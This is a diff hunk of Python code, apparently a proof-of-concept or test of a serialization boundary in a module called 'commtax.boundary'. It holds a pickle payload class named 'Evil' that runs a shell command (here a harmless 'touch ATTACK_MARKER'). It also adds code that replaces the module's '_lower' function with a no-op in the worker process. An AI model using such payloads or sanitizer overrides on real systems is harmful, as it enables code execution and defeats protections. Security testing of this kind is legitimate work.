@@ -17,9 +17,17 @@ class Evil(float):
         return (_os.system, ("touch ATTACK_MARKER",))
 
 
+import sys as _sys
+
+for _name in ("commtax.boundary", "__main__"):  # the worker runs as `python -m commtax.boundary`
+    try:
+        __import__(_name)
+        if hasattr(_sys.modules[_name], "_lower"):
+            _sys.modules[_name]._lower = lambda value, depth=0: value
+    except Exception:
+        pass
 try:
     import commtax.boundary as _boundary
-    _boundary._lower = lambda value, depth=0: value
 except Exception:
     pass
 try:  # in a rank: what the launcher reads back
